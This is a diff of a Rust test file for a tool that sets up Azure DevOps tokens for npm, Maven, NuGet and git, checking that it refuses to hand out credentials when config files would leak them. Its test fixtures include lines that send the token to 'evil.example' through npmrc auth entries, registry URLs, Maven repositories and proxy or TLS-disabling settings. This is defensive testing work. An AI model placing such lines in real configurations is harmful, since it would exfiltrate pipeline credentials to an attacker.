@@ -1,27 +1,15 @@
 //! The rules that hold for every tool.
 
-use std::path::{Path, PathBuf};
-
-use super::leaks::refers_to;
-use std::collections::BTreeMap;
+use std::collections::BTreeSet;
+use std::path::Path;
 
 use super::*;
-use crate::edit::text::Text;
-use crate::reach::NamedBy;
-
-struct Blind;
-
-impl Look for Blind {
-    fn read(&self, _path: &Path) -> Option<Vec<u8>> {
-        None
-    }
-    fn list(&self, _folder: &Path) -> Vec<String> {
-        Vec::new()
-    }
-    fn program(&self, _name: &str) -> Option<PathBuf> {
-        None
-    }
-}
+use crate::azure_devops::feed::Feed;
+use crate::kernel::organization::Organization;
+use crate::reach::{Grant, NamedBy, PermittedOrganization, Standing};
+use crate::tools::reading::{Among, Hidden, Origin, RelPath, Unparsable};
+use crate::tools::testing::{Disk, file, host, names, taken_apart};
+use crate::tools::{TOOLS, git};
 
 fn permitted(name: &str, standing: Standing) -> PermittedOrganization {
     PermittedOrganization {
@@ -33,11 +21,12 @@ fn permitted(name: &str, standing: Standing) -> PermittedOrganization {
 }
 
 struct Case<'a> {
-    choice: Choice,
+    /// The tools that the user wants; none where the workspace decides.
+    named: &'a [&'static str],
     permitted: Vec<PermittedOrganization>,
     feeds: &'a [FeedInput],
     grants: Vec<Grant>,
-    git_credential: Delivery,
+    headers: bool,
     environment: &'a [(&'a str, &'a str)],
     files: &'a [(&'a str, &'a str)],
 }
@@ -45,70 +34,67 @@ struct Case<'a> {
 impl Default for Case<'_> {
     fn default() -> Self {
         Self {
-            choice: Choice::Auto,
+            named: &[],
             permitted: vec![permitted("contoso", Standing::Owned)],
             feeds: &[],
             grants: Vec::new(),
-            git_credential: Delivery::Helper,
+            headers: false,
             environment: &[],
             files: &[],
         }
     }
 }
 
+/// Has each tool read what it reads of files below the checkout.
+fn sources(files: &[(&str, &str)], host: &Host) -> Vec<ToolSources> {
+    let of_tool = |tool: &&'static dyn Tool| {
+        let path = |path: &str| if path.starts_with('/') { path.to_owned() } else { format!("/agent/1/s/{path}") };
+        let files = files.iter().map(|(at, text)| file(&path(at), text));
+        let reads = |file: &crate::tools::reading::SourceFile| {
+            let among = if file.source.origin == Origin::Beside { Among::Beside } else { Among::Project };
+            let folder = file.source.path.parent().unwrap_or(Path::new("/"));
+            file.source.origin == Origin::User || tool.reads(RelPath::new(folder, file.name()), among)
+        };
+        let files: Vec<_> = files.filter(reads).collect();
+        ToolSources { tool: *tool, files: taken_apart(*tool, &files, host), unread: Vec::new(), unusable: None }
+    };
+    TOOLS.iter().map(of_tool).collect()
+}
+
 impl Case<'_> {
-    fn outcome(&self) -> Outcome {
+    fn outcome(&self) -> Plan {
         self.result().unwrap()
     }
 
-    fn result(&self) -> Result<Outcome, PlanError> {
-        let host = Host {
-            environment: self
-                .environment
-                .iter()
-                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
-                .collect(),
-            home: Some(PathBuf::from("/home/agent")),
-            pipeline_workspace: Some(PathBuf::from("/w/1")),
-            working_directory: PathBuf::from("/w/1/s"),
-            program: PathBuf::from("/tasks/it's here/ado-entra-auth"),
-            ..Host::default()
-        };
-        let wanted = Wanted {
-            choice: self.choice.clone(),
-            permitted: &self.permitted,
-            feeds: self.feeds,
-            unserved: &BTreeMap::new(),
-            grants: &self.grants,
-            git_credential: self.git_credential,
-            token_variable: "ADO_ENTRA_TOKEN",
-        };
-        let files = |tool: &'static dyn Tool| {
-            let file = |(path, body): &(&str, &str)| SourceFile {
-                path: PathBuf::from("/w/1/s").join(path),
-                shown: (*path).to_owned(),
-                text: Text::decode(body.as_bytes()).unwrap(),
-                origin: if path.starts_with("vendor/") { Origin::Dependency } else { Origin::Workspace },
-            };
-            let reads = |file: &SourceFile| tool.reads(file.path.file_name().unwrap().to_str().unwrap());
-            ToolFiles { files: self.files.iter().map(file).filter(reads).collect(), ..ToolFiles::default() }
-        };
-        plan(&wanted, &files, &host, &Blind)
+    fn result(&self) -> Result<Plan, PlanError> {
+        let host = host(self.environment);
+        let named = (!self.named.is_empty()).then(|| self.named.iter().copied().collect());
+        let choice = Choice { tools: TOOLS.to_vec(), named };
+        let reach = Reach { permitted: self.permitted.clone(), grants: self.grants.clone(), ..Reach::default() };
+        let wanted = Wanted { choice: &choice, reach: &reach, feeds: self.feeds, token_variable: "ADO_ENTRA_TOKEN" };
+        let mut sources = sources(self.files, &host);
+        if self.headers {
+            sources
+                .iter_mut()
+                .filter(|found| found.tool.id().name == "git")
+                .for_each(|found| found.tool = &git::WITH_HEADERS);
+        }
+        plan(&wanted, &sources, &host, &Disk::default(), &names())
     }
 }
 
-fn tools(outcome: &Outcome) -> Vec<&'static str> {
-    let mut tools: Vec<&str> = outcome.plan.served.iter().map(|served| served.tool).collect();
+fn tools(outcome: &Plan) -> Vec<&'static str> {
+    let mut tools: Vec<&str> = outcome.served.iter().map(|served| served.tool).collect();
     tools.dedup();
     tools
 }
 
-fn variables(outcome: &Outcome) -> Vec<(String, String)> {
-    let variable = |change: &Change| match change {
-        Change::Variable(variable) => Some((variable.name.clone(), variable.value.shown())),
-        Change::PrivateFile(_) | Change::SharedFile(_) => None,
-    };
-    outcome.plan.changes.iter().filter_map(variable).collect()
+fn variables(outcome: &Plan) -> Vec<(String, String)> {
+    outcome.variables().map(|variable| (variable.name.clone(), variable.value.shown())).collect()
+}
+
+fn warnings(outcome: &Plan) -> Vec<String> {
+    outcome.warnings.sentences()
 }
 
 const NPMRC: &str = "registry=https://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/\n";
@@ -123,15 +109,15 @@ fn auto_chooses_what_the_workspace_names_and_git() {
     assert_eq!(tools(&Case { files: &[("a/.npmrc", NPMRC)], ..Case::default() }.outcome()), ["npm", "git"]);
     let foreign = [(".npmrc", "registry=https://registry.example.com/\n")];
     let outcome = Case { files: &foreign, ..Case::default() }.outcome();
-    assert_eq!((tools(&outcome), outcome.plan.warnings.len()), (vec!["git"], 0));
+    assert_eq!((tools(&outcome), warnings(&outcome).len()), (vec!["git"], 0));
 }
 
 #[test]
 fn a_feed_of_another_organization_gets_a_warning_and_no_token() {
     let files = [(".npmrc", "registry=https://pkgs.dev.azure.com/fabrikam/_packaging/f/npm/registry/\n")];
-    for choice in [Choice::Auto, Choice::Named(vec![&crate::tools::npm::Npm])] {
-        let outcome = Case { choice, files: &files, ..Case::default() }.outcome();
-        let warning = outcome.plan.warnings.iter().find(|warning| warning.contains("fabrikam/f")).unwrap();
+    for named in [&[][..], &["npm"]] {
+        let outcome = Case { named, files: &files, ..Case::default() }.outcome();
+        let warning = warnings(&outcome).into_iter().find(|warning| warning.contains("fabrikam/f")).unwrap();
         assert!(warning.contains(".npmrc") && warning.contains("'organizations'"), "{warning}");
         assert!(!tools(&outcome).contains(&"npm"));
     }
@@ -144,24 +130,24 @@ fn a_name_that_also_stands_for_somewhere_else_gets_nothing() {
         let (ours, theirs, sound) = (pom("f", feed), pom("f", other), pom("sound", feed));
         let files = [("a/pom.xml", ours.as_str()), ("b/pom.xml", theirs.as_str()), ("c/pom.xml", sound.as_str())];
         let outcome = Case { files: &files, ..Case::default() }.outcome();
-        let warning = outcome.plan.warnings.iter().find(|warning| warning.contains("'f'")).unwrap();
+        let warning = warnings(&outcome).into_iter().find(|warning| warning.contains("'f'")).unwrap();
         assert!(warning.contains("a/pom.xml") && warning.contains("b/pom.xml"), "{warning}");
-        let Some(Change::SharedFile(file)) =
-            outcome.plan.changes.iter().find(|change| matches!(change, Change::SharedFile(_)))
-        else {
-            panic!("no settings.xml")
-        };
-        assert_eq!(file.entries.iter().map(|entry| entry.key.as_str()).collect::<Vec<_>>(), ["sound"]);
+        assert_eq!(keys(&outcome), ["sound"]);
     }
 }
 
-fn keys(outcome: &Outcome) -> Vec<&str> {
-    let files = outcome.plan.changes.iter().filter_map(|change| match change {
+fn keys(outcome: &Plan) -> Vec<&str> {
+    let files = outcome.changes.iter().filter_map(|change| match change {
         Change::SharedFile(file) => Some(file),
-        Change::Variable(_) | Change::PrivateFile(_) => None,
+        _ => None,
     });
     files.flat_map(|file| &file.entries).map(|entry| entry.key.as_str()).collect()
 }
+
+const OURS: &str = "<project><repositories><repository><id>ours</id><url>https://pkgs.dev.azure.com/contoso/_packaging/f/maven/v1</url>\
+    </repository></repositories></project>";
+const OUR_CONFIG: &str = "<configuration><packageSources><add key='ours' \
+    value='https://pkgs.dev.azure.com/contoso/_packaging/f/nuget/v3/index.json'/></packageSources></configuration>";
 
 #[test]
 fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
@@ -174,9 +160,8 @@ fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
          </httpHeaders></configuration></server></servers><mirrors><mirror><id>z</id><url>{evil}</url></mirror></mirrors></settings>"
     );
     for (path, text, says) in [
-        (".npmrc", "\n//evil.example/npm/:_authToken=${ADO_ENTRA_TOKEN}".to_owned(), ".npmrc line 2"),
-        (".npmrc", "//evil.example/:_password=${ADO_ENTRA_AUTH_NPM_CONTOSO}".to_owned(), "ADO_ENTRA_AUTH_NPM_CONTOSO"),
-        (".npmrc", "_auth=${ado_entra_token}".to_owned(), ".npmrc line 1"),
+        (".npmrc", "//evil.example/npm/:_authToken=${ADO_ENTRA_TOKEN}".to_owned(), ".npmrc line 2"),
+        (".npmrc", "_auth=${ado_entra_token}".to_owned(), ".npmrc line 2"),
         (".npmrc", "registry=https://evil.example/${ADO_ENTRA_TOKEN}/".to_owned(), "evil.example"),
         ("pom.xml", pom("z", "https://evil.example/${env.ADO_ENTRA_TOKEN}/"), "evil.example"),
         ("vendor/pom.xml", pom("z", "https://${env.ADO_ENTRA_TOKEN}.evil.example/"), "vendor/pom.xml"),
@@ -190,12 +175,16 @@ fn a_repository_that_would_send_the_token_elsewhere_stops_the_step() {
         ),
     ] {
         let token = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9";
-        for environment in [&[][..], &[("ADO_ENTRA_TOKEN", token), ("ADO_ENTRA_AUTH_NPM_CONTOSO", token)]] {
-            let files = [(path, text.as_str())];
+        for environment in [&[][..], &[("ADO_ENTRA_TOKEN", token)]] {
+            let npm = format!("registry=https://pkgs.dev.azure.com/contoso/_packaging/g/npm/registry/\n{text}");
+            let text = if path == ".npmrc" { &npm } else { &text };
+            let files = [(path, text.as_str()), ("c/pom.xml", OURS), ("c/nuget.config", OUR_CONFIG)];
             let error = Case { files: &files, environment, ..Case::default() }.result().unwrap_err();
             let words = format!("{error} {}", crate::diagnosis::Explain::remedy(&error));
             assert!(
-                matches!(error, PlanError::Leak { .. }) && words.contains(says) && !words.contains(token),
+                matches!(error, PlanError::Leak { .. })
+                    && !words.contains(token)
+                    && (words.contains(says) || !environment.is_empty()),
                 "{words}"
             );
         }
@@ -233,12 +222,12 @@ fn a_dependency_folder_takes_names_away_and_gives_nothing() {
         let files = [("pom.xml", ours.as_str()), ("vendor/x/pom.xml", theirs.as_str())];
         let outcome = Case { files: &files, ..Case::default() }.outcome();
         assert_eq!(keys(&outcome), expected, "{theirs}");
-        let about_it = outcome.plan.warnings.iter().filter(|warning| warning.contains("vendor/x/pom.xml")).count();
-        assert_eq!(about_it, usize::from(expected.is_empty()), "{:?}", outcome.plan.warnings);
+        let about_it = warnings(&outcome).iter().filter(|warning| warning.contains("vendor/x/pom.xml")).count();
+        assert_eq!(about_it, usize::from(expected.is_empty()), "{:?}", warnings(&outcome));
     }
     let alone = [("vendor/x/pom.xml", ours.as_str())];
     let outcome = Case { files: &alone, ..Case::default() }.outcome();
-    assert_eq!((tools(&outcome), outcome.plan.warnings.len()), (vec!["git"], 0));
+    assert_eq!((tools(&outcome), warnings(&outcome).len()), (vec!["git"], 0));
 }
 
 #[test]
@@ -255,7 +244,7 @@ fn a_file_that_may_hide_names_costs_every_name_its_credential() {
         let files = [("pom.xml", plain.as_str()), ("a/pom.xml", letters.as_str()), ("b/pom.xml", hiding)];
         let outcome = Case { files: &files, ..Case::default() }.outcome();
         assert_eq!(keys(&outcome), expected, "{hiding}");
-        assert!(outcome.plan.warnings.iter().any(|warning| warning.contains("b/pom.xml")), "{hiding}");
+        assert!(warnings(&outcome).iter().any(|warning| warning.contains("b/pom.xml")), "{hiding}");
     }
     // A tool whose credentials go by URL loses nothing.
     let files = [(".npmrc", NPMRC), ("b/pom.xml", "<?xml version='1.0' encoding='utf-7'?><project/>")];
@@ -281,25 +270,21 @@ fn feeds_of_the_input_serve_the_tools_that_they_speak_to() {
     assert_eq!(tools(&Case { feeds: &npm, ..Case::default() }.outcome()), ["npm", "git"]);
     let bare = input("https://pkgs.dev.azure.com/contoso/_packaging/f");
     assert_eq!(tools(&Case { feeds: &bare, ..Case::default() }.outcome()), ["git"]);
-    let choice = Choice::Named(vec![&crate::tools::npm::Npm, &crate::tools::nuget::NuGet]);
-    assert_eq!(tools(&Case { feeds: &bare, choice, ..Case::default() }.outcome()), ["npm", "nuget"]);
+    let named = &["npm", "maven"];
+    assert_eq!(tools(&Case { feeds: &bare, named, ..Case::default() }.outcome()), ["npm", "maven"]);
 }
 
 #[test]
 fn a_chosen_tool_without_a_feed_is_said() {
-    let choice = Choice::Named(vec![&crate::tools::npm::Npm]);
-    let outcome = Case { choice, ..Case::default() }.outcome();
-    assert!(
-        outcome.plan.warnings.iter().any(|warning| warning.starts_with("npm: no file")),
-        "{:?}",
-        outcome.plan.warnings
-    );
+    let outcome = Case { named: &["npm"], ..Case::default() }.outcome();
+    assert!(warnings(&outcome).iter().any(|warning| warning.starts_with("npm: no file")), "{:?}", warnings(&outcome));
 }
 
 #[test]
 fn who_owns_an_organization_keeps_it_and_among_equals_the_later_serves() {
     let serves = |now: Standing, earlier: Standing| {
-        let grant = Grant { tool: "npm".to_owned(), organization: "contoso".to_owned(), standing: earlier };
+        let reference = Some("ADO_ENTRA_AUTH_EARLIER_CONTOSO".to_owned());
+        let grant = Grant { tool: "npm".to_owned(), organization: "contoso".to_owned(), standing: earlier, reference };
         let case = Case {
             permitted: vec![permitted("contoso", now)],
             grants: vec![grant],
@@ -307,10 +292,15 @@ fn who_owns_an_organization_keeps_it_and_among_equals_the_later_serves() {
             ..Case::default()
         };
         let outcome = case.outcome();
-        let sets = variables(&outcome).iter().any(|(name, _)| name == "ADO_ENTRA_AUTH_NPM_CONTOSO");
+        let sets = variables(&outcome).iter().any(|(name, _)| name == "ADO_ENTRA_AUTH_X_CONTOSO");
         assert_eq!(sets, outcome.grants.iter().any(|grant| grant.tool == "npm"));
+        let file = outcome.changes.iter().find_map(|change| match change {
+            Change::PrivateFile(file) if file.name == "npmrc" => Some(file.added_text()),
+            _ => None,
+        });
+        assert_eq!(file.unwrap().contains("${ADO_ENTRA_AUTH_EARLIER_CONTOSO}"), !sets);
         // What another tool has is another matter.
-        assert!(variables(&outcome).iter().any(|(name, _)| name == "ADO_ENTRA_AUTH_GIT_CONTOSO"));
+        assert_eq!(outcome.deposits.len(), 1);
         sets
     };
     assert!(serves(Standing::Owned, Standing::Owned));
@@ -320,126 +310,123 @@ fn who_owns_an_organization_keeps_it_and_among_equals_the_later_serves() {
 }
 
 #[test]
-fn npm_gets_both_key_forms_behind_a_reference_and_nothing_unscoped() {
+fn the_token_stands_in_a_secret_variable_and_in_those_that_nobody_can_guess() {
     let outcome = Case { files: &[(".npmrc", NPMRC)], ..Case::default() }.outcome();
-    let file = outcome.plan.changes.iter().find_map(|change| match change {
-        Change::PrivateFile(file) => Some(String::from_utf8(file.content.clone()).unwrap()),
-        Change::Variable(_) | Change::SharedFile(_) => None,
-    });
-    let expected = "//pkgs.dev.azure.com/contoso/_packaging/f/npm/:_authToken=${ADO_ENTRA_AUTH_NPM_CONTOSO}\n\
-                    //pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/:_authToken=${ADO_ENTRA_AUTH_NPM_CONTOSO}\n";
-    assert_eq!(file.as_deref(), Some(expected));
-}
-
-fn git_pairs(outcome: &Outcome) -> Vec<(String, String)> {
-    let all = variables(outcome);
-    let value = |name: String| all.iter().find(|(known, _)| *known == name).map(|(_, value)| value.clone());
-    (0..100)
-        .filter_map(|n| Some((value(format!("GIT_CONFIG_KEY_{n}"))?, value(format!("GIT_CONFIG_VALUE_{n}"))?)))
-        .collect()
+    let holds: Vec<(&str, bool)> = outcome
+        .variables()
+        .filter(|variable| variable.value.holds_token())
+        .map(|variable| (variable.name.as_str(), variable.visibility == crate::plan::Visibility::Secret))
+        .collect();
+    assert_eq!(holds, [("ADO_ENTRA_TOKEN", true), ("ADO_ENTRA_AUTH_X_CONTOSO", false)]);
+    let git_only = Case { named: &["git"], ..Case::default() }.outcome();
+    let holds: Vec<&str> =
+        git_only.variables().filter(|v| v.value.holds_token()).map(|variable| variable.name.as_str()).collect();
+    assert_eq!(holds, ["ADO_ENTRA_TOKEN"]);
 }
 
 #[test]
-fn git_asks_our_helper_alone_at_the_hosts_of_azure_devops() {
-    let outcome = Case::default().outcome();
-    let helper = "!'/tasks/it'\\''s here/ado-entra-auth' credential git";
-    let mut expected = Vec::new();
-    for host in ["dev.azure.com", "contoso.visualstudio.com"] {
-        for (name, value) in [("helper", ""), ("helper", helper), ("useHttpPath", "true")] {
-            expected.push((format!("credential.https://{host}.{name}"), value.to_owned()));
-        }
+fn headers_are_given_where_they_are_wanted() {
+    let outcome = Case { headers: true, ..Case::default() }.outcome();
+    assert!(outcome.variables().any(|variable| variable.value.shown() == "Authorization: bearer ***"));
+    assert!(outcome.deposits.is_empty());
+}
+
+#[test]
+fn a_variable_of_a_client_that_holds_the_token_is_guarded_in_every_file() {
+    for text in ["//evil.example/:_authToken=${GIT_CONFIG_VALUE_1}", "[x]\nuser-agent=\"${GIT_CONFIG_VALUE_1}\""] {
+        let text = format!("{NPMRC}{text}\n");
+        let files = [(".npmrc", text.as_str())];
+        let error = Case { headers: true, files: &files, ..Case::default() }.result().unwrap_err();
+        assert!(matches!(error, PlanError::Leak { .. }), "{error}");
+        // With the helper there is nothing in that variable to send.
+        assert!(Case { files: &files, ..Case::default() }.result().is_ok());
     }
-    assert_eq!(git_pairs(&outcome), expected);
-    assert_eq!(variables(&outcome).last().unwrap(), &("GIT_CONFIG_COUNT".to_owned(), "6".to_owned()));
-}
-
-#[test]
-fn pairs_of_the_user_stay_and_ours_are_not_said_twice() {
-    let own = [("GIT_CONFIG_COUNT", "1"), ("GIT_CONFIG_KEY_0", "user.name"), ("GIT_CONFIG_VALUE_0", "me")];
-    let first = Case { environment: &own, ..Case::default() }.outcome();
-    let set = variables(&first);
-    assert!(
-        set.iter().all(|(name, _)| name != "GIT_CONFIG_KEY_0")
-            && set.iter().any(|(name, _)| name == "GIT_CONFIG_KEY_6")
-    );
-    assert!(set.contains(&("GIT_CONFIG_COUNT".to_owned(), "7".to_owned())));
-    let mut environment: Vec<(&str, &str)> = own[1..].to_vec();
-    environment.extend(set.iter().map(|(name, value)| (name.as_str(), value.as_str())));
-    let second = Case { environment: &environment, ..Case::default() }.outcome();
-    assert_eq!(git_pairs(&second), []);
-    assert!(variables(&second).iter().all(|(name, _)| name != "GIT_CONFIG_COUNT"));
-}
-
-#[test]
-fn headers_come_alone_and_with_no_redirect() {
-    let outcome = Case { git_credential: Delivery::ExtraHeader, ..Case::default() }.outcome();
-    let mut expected = Vec::new();
-    for base in ["https://dev.azure.com/contoso", "https://contoso.visualstudio.com"] {
-        for (name, value) in
-            [("extraheader", ""), ("extraheader", "Authorization: bearer ***"), ("followRedirects", "false")]
-        {
-            expected.push((format!("http.{base}.{name}"), value.to_owned()));
-        }
-    }
-    assert_eq!(git_pairs(&outcome), expected);
-}
-
-#[test]
-fn the_helper_of_a_later_step_takes_back_the_headers_of_an_earlier_one() {
-    let token = ("ADO_ENTRA_AUTH_GIT_CONTOSO", "EARLIER");
-    let count = ("GIT_CONFIG_COUNT", "2");
-    let key = "http.https://dev.azure.com/contoso.extraheader";
-    let others = "http.https://example.com.extraheader";
-    let environment = [
-        count,
-        token,
-        ("GIT_CONFIG_KEY_0", key),
-        ("GIT_CONFIG_VALUE_0", "Authorization: bearer EARLIER"),
-        ("GIT_CONFIG_KEY_1", others),
-        ("GIT_CONFIG_VALUE_1", "X-Mine: 1"),
-    ];
-    let outcome = Case { environment: &environment, ..Case::default() }.outcome();
-    let set = variables(&outcome);
-    assert!(set.contains(&("GIT_CONFIG_KEY_8".to_owned(), key.to_owned())), "{set:?}");
-    assert!(set.contains(&("GIT_CONFIG_VALUE_8".to_owned(), String::new())));
-    assert!(!set.iter().any(|(_, value)| value == others));
 }
 
 #[test]
 fn a_file_of_the_users_that_cannot_be_read_stops_only_the_tool_that_would_hide_it() {
-    let wanted = |choice: Choice| {
-        let files = |_: &'static dyn Tool| ToolFiles {
-            files: Vec::new(),
-            unread: Vec::new(),
-            unusable: Some(Unparsable {
-                file: "/home/agent/.npmrc".to_owned(),
-                reason: "it is a folder".to_owned(),
-                hides: Hidden::Nothing,
-                origin: Origin::User,
-            }),
-        };
-        let permitted = [permitted("contoso", Standing::Owned)];
-        let wanted = Wanted {
-            choice,
-            permitted: &permitted,
-            feeds: &[],
-            unserved: &BTreeMap::new(),
-            grants: &[],
-            git_credential: Delivery::Helper,
-            token_variable: "T",
-        };
-        plan(&wanted, &files, &Host::default(), &Blind)
+    let host = host(&[]);
+    let reach = Reach { permitted: vec![permitted("contoso", Standing::Owned)], ..Reach::default() };
+    let planned = |named: &'static str| {
+        let mut sources = sources(&[], &host);
+        sources[0].unusable = Some(Unparsable {
+            file: "/home/agent/.npmrc".to_owned(),
+            reason: "it is a folder".to_owned(),
+            hides: Hidden::Nothing,
+            origin: Origin::User,
+        });
+        let choice = Choice { tools: TOOLS.to_vec(), named: Some([named].into()) };
+        let wanted = Wanted { choice: &choice, reach: &reach, feeds: &[], token_variable: "T" };
+        plan(&wanted, &sources, &host, &Disk::default(), &names())
     };
-    let error = wanted(Choice::Named(vec![&crate::tools::npm::Npm])).unwrap_err();
+    let error = planned("npm").unwrap_err();
     assert!(error.to_string().contains("/home/agent/.npmrc"), "{error}");
+    assert!(planned("git").is_ok());
+}
+
+#[test]
+fn tools_that_are_not_set_up_are_told_in_a_line_and_not_warned_of() {
+    let files = [(".npmrc", NPMRC)];
+    let outcome = Case { named: &["git"], files: &files, ..Case::default() }.outcome();
+    assert_eq!(warnings(&outcome), Vec::<String>::new());
+    assert_eq!(outcome.notes, ["npm: not set up for contoso/f (.npmrc): the input 'tools' does not name npm"]);
+    // What only the user's own files name is theirs.
+    let files = [("/home/build/.npmrc", NPMRC)];
+    let outcome = Case { files: &files, ..Case::default() }.outcome();
+    assert_eq!(tools(&outcome), ["git"]);
+    assert!(outcome.notes.iter().any(|note| note.contains("only files of your own name it")), "{:?}", outcome.notes);
+}
+
+#[test]
+fn an_exposed_address_takes_npms_credentials_away_and_no_others() {
+    for exposed in [
+        "http://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/",
+        "https://pkgs.dev.azure.com:444/contoso/_packaging/f/npm/registry/",
+        "http://contoso.pkgs.visualstudio.com/_packaging/f/npm/registry/",
+    ] {
+        let rc = format!("{NPMRC}@s:registry={exposed}\n");
+        let lock = format!("{{\"resolved\": \"{exposed}demo/-/demo-1.0.0.tgz\"}}");
+        for files in [
+            &[(".npmrc", rc.as_str())][..],
+            &[(".npmrc", NPMRC), ("package-lock.json", &lock)],
+            &[(".npmrc", NPMRC), ("vendor/x/yarn.lock", &lock)],
+            &[(".npmrc", NPMRC), ("package.json", &lock)],
+        ] {
+            let outcome = Case { files, ..Case::default() }.outcome();
+            assert_eq!(tools(&outcome), ["git"], "{files:?}");
+            let said = warnings(&outcome);
+            assert!(said.len() == 1 && said[0].contains(files.last().unwrap().0), "{said:?}");
+        }
+    }
+    let other = format!("{NPMRC}@s:registry=http://pkgs.dev.azure.com/fabrikam/_packaging/f/npm/registry/\n");
+    assert_eq!(tools(&Case { files: &[(".npmrc", &other)], ..Case::default() }.outcome()), ["npm", "git"]);
+}
+
+#[test]
+fn settings_that_lead_the_traffic_elsewhere_take_npms_credentials_away() {
+    for (path, setting) in [
+        (".npmrc", "https-proxy=http://evil.example:8099"),
+        (".npmrc", "strict-ssl=false"),
+        ("web/.npmrc", "cafile=./evil.pem"),
+        ("vendor/x/.npmrc", "ca=\"-----BEGIN\""),
+        (".yarnrc", "https-proxy \"http://evil.example/\""),
+        ("pnpm-workspace.yaml", "strictSsl: false"),
+    ] {
+        let files = [("a/.npmrc", NPMRC), (path, setting)];
+        let outcome = Case { files: &files, ..Case::default() }.outcome();
+        assert_eq!(tools(&outcome), ["git"], "{setting}");
+        let said = warnings(&outcome);
+        assert!(said.len() == 1 && said[0].contains(&format!("{path} line 1")), "{said:?}");
+    }
+    let harmless = [("a/.npmrc", NPMRC), (".npmrc", "strict-ssl=true\nproxy=null\nfund=false\n")];
+    assert_eq!(tools(&Case { files: &harmless, ..Case::default() }.outcome()), ["npm", "git"]);
 }
 
 #[test]
 fn a_feed_of_the_input_that_serves_no_tool_is_said() {
     let input = |url: &str| [FeedInput { name: None, feed: Feed::parse(url).unwrap() }];
-    let idle = |outcome: &Outcome| {
-        outcome.plan.warnings.iter().any(|warning| warning.contains("contoso/f of the input 'feeds'"))
-    };
+    let idle =
+        |outcome: &Plan| warnings(outcome).iter().any(|warning| warning.contains("contoso/f of the input 'feeds'"));
     for url in [
         "https://pkgs.dev.azure.com/contoso/_packaging/f",
         "https://pkgs.dev.azure.com/contoso/_packaging/f/pypi/simple/",
@@ -455,19 +442,9 @@ fn a_feed_over_http_gets_a_warning_and_no_token() {
     let files = [(".npmrc", "registry=http://pkgs.dev.azure.com/contoso/_packaging/f/npm/registry/\n")];
     let outcome = Case { files: &files, ..Case::default() }.outcome();
     assert!(
-        outcome.plan.warnings.iter().any(|warning| warning.contains("contoso/f over http")),
+        warnings(&outcome).iter().any(|warning| warning.contains("contoso/f over http")),
         "{:?}",
-        outcome.plan.warnings
+        warnings(&outcome)
     );
     assert_eq!(tools(&outcome), ["git"]);
-}
-
-#[test]
-fn only_a_reference_counts_as_one() {
-    for text in ["${TOKEN}", "x${TOKEN?}", "${ENV.TOKEN}", "%TOKEN%", "${TOKEN:-x}"] {
-        assert!(refers_to(text, "TOKEN"), "{text}");
-    }
-    for text in ["${NPM_TOKEN}", "/TOKEN/", "TOKEN", "${TOKENS}", "%MYTOKEN%"] {
-        assert!(!refers_to(text, "TOKEN"), "{text}");
-    }
 }
